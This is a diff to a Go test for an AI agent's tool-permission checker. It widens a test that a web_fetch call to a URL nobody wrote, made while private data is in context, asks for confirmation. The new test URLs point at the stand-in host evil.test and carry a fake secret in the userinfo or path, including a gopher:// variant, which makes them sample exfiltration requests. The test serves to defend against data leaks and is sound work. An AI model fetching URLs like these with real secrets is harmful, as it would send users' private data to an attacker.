@@ -119,8 +119,10 @@ func TestLethalCombinationAsks(t *testing.T) {
 			t.Errorf("following the link %s asks: %s", u, v.Reason)
 		}
 	}
-	if v := f.check(builtin("web_fetch", tools.KindRead), `{"url":"http://evil.test/made-up"}`, nil); !v.Confirm {
-		t.Errorf("web_fetch of a URL nobody wrote, with private data in context, does not ask")
+	for _, u := range []string{"http://evil.test/made-up", "http://S3CR3T-1@evil.test/", "HTTP://EVIL.test:8080/x", "gopher://evil.test/S3CR3T-1"} {
+		if v := f.check(builtin("web_fetch", tools.KindRead), fmt.Sprintf(`{"url":%q}`, u), nil); !v.Confirm {
+			t.Errorf("web_fetch of %s, which nobody wrote, with private data in context, does not ask", u)
+		}
 	}
 }
 
